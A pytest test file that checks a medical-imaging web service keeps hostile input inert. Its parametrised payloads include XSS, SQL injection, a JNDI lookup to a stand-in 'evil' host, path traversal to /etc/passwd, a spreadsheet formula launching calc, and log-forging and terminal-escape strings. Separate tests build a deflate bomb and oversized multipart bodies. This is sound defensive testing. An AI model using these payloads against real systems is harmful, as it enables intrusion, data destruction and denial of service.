"""Tags, names and notes that are code: shown as text or not at all, never run, and no line of a log is theirs."""

import csv
import io
import json
import logging
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from pydicom.uid import DeflatedExplicitVRLittleEndian
from sqlalchemy import text

from fabricate_service import grey_png
from fabricate_study_image import study_image
from hilum.service.store.readings import Wanted
from hilum.service.store.store import Store
from hilum.service.web.passwords import hash_password

READINGS = "/api/v1/readings"

SCRIPT = '"><script>alert(1)</script>'
PIECES = {
    "html": SCRIPT,
    "attribute": "' onmouseover='alert(1)",
    "sql": "'); DROP TABLE job; --",
    "format": "%s%n{0}{x.__class__}${jndi:ldap://evil}",
    "template": "{{ 7*7 }}{% raw %}",
    "line": "x\nhilum: FORGED line\r\nWARNING FORGED",
    "escape": "\x1b[2J\x1b]0;FORGED\x07",
    "turned": "\u202egnp.exe",
    "nothing": "a\x00b",
    "path": "../../../../etc/passwd",
    "formula": "=cmd|' /C calc'!A0",
    "long": "L" * 300,
}


def nasty_image(piece: str) -> bytes:
    """An image with the piece in the names and texts of its tags, as bytes that no writer would let pass."""
    mark = b"Q" * 60
    data = study_image(
        PatientName=mark.decode(), PatientID=mark.decode(), StudyDescription=mark.decode(), AccessionNumber="Q" * 16
    )
    put = piece.encode("utf-8", "replace")[:60].ljust(60, b" ")
    return data.replace(mark, put)


@pytest.fixture
def told(caplog: pytest.LogCaptureFixture) -> Callable[[], list[str]]:
    """What hilum logged so far."""
    caplog.set_level(logging.DEBUG)
    return lambda: [record.getMessage() for record in caplog.records if record.name.startswith("hilum")]


def related(data: bytes) -> dict:
    body = b"--frontier\r\nContent-Type: application/dicom\r\n\r\n" + data + b"\r\n--frontier--\r\n"
    return {
        "content": body,
        "headers": {"Content-Type": 'multipart/related; type="application/dicom"; boundary=frontier'},
    }


@pytest.mark.parametrize("piece", PIECES.values(), ids=PIECES.keys())
def test_tags_and_file_names_stay_text(
    client: TestClient,
    read_all: Callable[[], None],
    sqlite_store: Store,
    told: Callable[[], list[str]],
    piece: str,
) -> None:
    name = piece.replace('"', "%22").replace("\r", "").replace("\n", " ")  # as a browser sends it
    sent = client.post(READINGS, files={"file": (name, nasty_image(piece))})
    assert sent.status_code == 202
    client.post("/dicom-web/studies", **related(nasty_image(piece)))
    client.post(READINGS, files={"file": (name, grey_png()[:60])})
    read_all()
    jobs = sqlite_store.readings.page(Wanted()).jobs
    assert sorted(job.state for job in jobs) in (["done", "done", "failed"], ["done", "failed"])
    for job in jobs:
        assert job.name.isprintable()
        assert len(job.name) <= 200
        assert "/" not in job.name
        pages = [client.get(f"/readings/{job.id}")]
        pages += [] if job.state == "failed" else [client.get(f"{READINGS}/{job.id}/page")]
        for page in pages:
            assert page.status_code == 200
            for run in ("<script>alert", "' onmouseover='", "FORGED\n", "\x1b", "\u202e", "\x00", "49{%"):
                assert run not in page.text
        assert client.get(f"{READINGS}/{job.id}").json()["name"] == job.name
    with sqlite_store.database.read() as connection:
        assert connection.execute(text("SELECT count(*) FROM job")).scalar_one() == len(jobs)
    assert not [line for line in told() if "FORGED" in line or "\n" in line or piece[:20] in line]


def test_a_name_without_end_is_refused(client: TestClient, sqlite_store: Store) -> None:
    assert client.post(READINGS, files={"file": ("L" * 100_000, grey_png())}).status_code == 400
    assert sqlite_store.queue.waiting() == 0


@pytest.mark.parametrize("piece", PIECES.values(), ids=PIECES.keys())
def test_objects_of_such_an_image_are_called_by_ids(
    client: TestClient, read_all: Callable[[], None], piece: str
) -> None:
    own = client.post(READINGS, files={"file": ("a.dcm", nasty_image(piece))}).headers["Location"]
    read_all()
    packed = client.get(f"{own}/objects.zip")
    if packed.status_code == 404:  # its tags cannot stand in an object, and that is said
        assert packed.json()["detail"].startswith("No DICOM objects")
        return
    assert packed.headers["content-disposition"] == f'attachment; filename="{own.rpartition("/")[2]}.zip"'
    with zipfile.ZipFile(io.BytesIO(packed.content)) as archive:
        assert all(Path(name).name == name and name.isascii() for name in archive.namelist())


@pytest.mark.parametrize("piece", PIECES.values(), ids=PIECES.keys())
def test_notes_and_names_of_people_stay_text(
    make_client: Callable[..., TestClient], read_all: Callable[[], None], sqlite_store: Store, piece: str
) -> None:
    client = make_client(password_hash=hash_password("correct horse battery"))
    who = piece[:64]
    logged_in = client.post("/login", data={"name": who, "password": "correct horse battery"})
    if logged_in.status_code != 303:
        assert not "".join(who.split())
        return
    front = client.get("/").text
    for run in ("<script>alert", "\x1b", "\x00", "\u202e"):
        assert run not in front
    secret = front.partition('name="csrf-token" content="')[2].partition('"')[0]
    headers = {"X-CSRF-Token": secret}
    own = client.post(READINGS, files={"file": ("a.png", grey_png())}, headers=headers).headers["Location"]
    read_all()
    body = {"model": "toy", "finding": "Pneumonia", "opinion": "agree", "note": piece[:2000]}
    assert client.post(f"{own}/opinions", json=body, headers=headers).status_code == 201
    (opinion,) = client.get(f"{own}/opinions").json()["opinions"]
    assert opinion["note"].isprintable()
    assert opinion["who"].isprintable()
    assert all(row.who.isprintable() for row in sqlite_store.audit.rows())
    written = client.get("/api/v1/opinions.csv").text
    assert written.count("\n") == 2  # the heads and one row, whatever the note holds
    (row,) = csv.DictReader(io.StringIO(written))
    assert not row["note"].startswith(("=", "+", "-", "@"))
    assert not row["who"].startswith(("=", "+", "-", "@"))


@pytest.mark.parametrize(
    ("asked", "status"),
    [
        ({"finding": "' OR 1=1 --"}, 200),
        ({"finding": "%"}, 200),
        ({"finding": "_neumonia"}, 200),
        ({"finding": "|"}, 200),
        ({"finding": "\x00"}, 422),
        ({"rank": "flagged' OR '1'='1"}, 422),
        ({"after": "1; DROP TABLE job"}, 422),
        ({"order": "urgency DESC; DELETE FROM job"}, 422),
    ],
)
def test_questions_are_no_sql(
    client: TestClient, read_all: Callable[[], None], sqlite_store: Store, asked: dict[str, str], status: int
) -> None:
    client.post(READINGS, files={"file": ("a.png", grey_png())})
    read_all()
    answer = client.get(READINGS, params=asked)
    assert answer.status_code == status
    assert status != 200 or answer.json()["total"] == 0
    assert sqlite_store.readings.counts()["done"] == 1


def test_a_note_that_is_no_text_is_refused(client: TestClient, read_all: Callable[[], None]) -> None:
    own = client.post(READINGS, files={"file": ("a.png", grey_png())}).headers["Location"]
    read_all()
    half = b'{"model": "toy", "finding": "Pneumonia", "opinion": "agree", "note": "\\ud800"}'
    answers = [half, b"[" * 60_000, b'{"model": 1e999}', b"\xff\xfe"]
    for body in answers:
        answer = client.post(f"{own}/opinions", content=body, headers={"Content-Type": "application/json"})
        assert answer.status_code in (201, 400, 422)
        assert answer.headers["content-type"].startswith(("application/problem+json", "application/json"))
    for each in client.get(f"{own}/opinions").json()["opinions"]:
        assert each["note"].isprintable()


# What is too much


def test_a_message_of_countless_parts_is_stopped(client: TestClient, sqlite_store: Store) -> None:
    """Ten bytes a part on the wire, some hundred in memory."""
    body = b"--f\r\n\r\n\r\n" * 200_000 + b"--f--\r\n"
    sent = client.post("/dicom-web/studies", content=body, headers={"Content-Type": "multipart/related; boundary=f"})
    assert sent.status_code == 413
    assert "1,000 objects" in sent.json()["detail"]
    fields = (
        b"".join(b'--f\r\nContent-Disposition: form-data; name="x"\r\n\r\n\r\n' for _ in range(1100)) + b"--f--\r\n"
    )
    form = client.post(READINGS, content=fields, headers={"Content-Type": "multipart/form-data; boundary=f"})
    assert form.status_code in (400, 413, 422)
    assert sqlite_store.queue.waiting() == 0


def test_a_deflated_object_is_inflated_within_the_limit_alone(make_client: Callable[..., TestClient]) -> None:
    """30 MB of zeros in a few kilobytes, sent to a service that takes 4 MB."""
    image = study_image(syntax=DeflatedExplicitVRLittleEndian, ImageComments="0" * 10_000)
    bomb = deflated_with(30_000_000)
    client = make_client(max_bytes=4_000_000)
    assert len(bomb) < 100_000
    assert client.post("/dicom-web/studies", **related(image)).status_code == 200
    refused = client.post("/dicom-web/studies", **related(bomb))
    assert refused.status_code == 409
    assert json.loads(refused.content)["0008119A"]["Value"][0]["00081197"]["Value"] == [0xC000]


def deflated_with(zeros: int) -> bytes:
    """A deflated object with an element of so many zeros before anything else that is asked for."""
    import zlib

    from pydicom import dcmread

    small = dcmread(io.BytesIO(study_image()))
    small.file_meta.TransferSyntaxUID = DeflatedExplicitVRLittleEndian
    stream = io.BytesIO()
    small.save_as(stream, enforce_file_format=True)
    data = stream.getvalue()
    start = 132 + 12 + int.from_bytes(data[140:144], "little")
    body = zlib.decompress(data[start:], -zlib.MAX_WBITS)
    element = b"\x04\x00\x00\x14OB\x00\x00" + zeros.to_bytes(4, "little") + bytes(zeros)
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return data[:start] + packer.compress(element + body) + packer.flush()


@pytest.mark.parametrize("encoding", ["gzip", "deflate", "br"])
def test_a_packed_request_is_not_unpacked(client: TestClient, sqlite_store: Store, encoding: str) -> None:
    import gzip

    packed = gzip.compress(bytes(50_000_000), 9)
    headers = {"Content-Encoding": encoding, "Content-Type": "multipart/form-data; boundary=f"}
    assert client.post(READINGS, content=packed, headers=headers).status_code in (400, 413, 415, 422)
    assert sqlite_store.queue.waiting() == 0


@pytest.mark.parametrize(
    "kind", ["text/plain", "application/json", "application/x-www-form-urlencoded", "multipart/mixed; boundary=f", ""]
)
def test_a_file_under_another_content_type_is_no_upload(client: TestClient, sqlite_store: Store, kind: str) -> None:
    answer = client.post(READINGS, content=grey_png(), headers={"Content-Type": kind} if kind else {})
    assert answer.status_code in (400, 415, 422)
    assert answer.headers["content-type"] == "application/problem+json"
    assert sqlite_store.queue.waiting() == 0
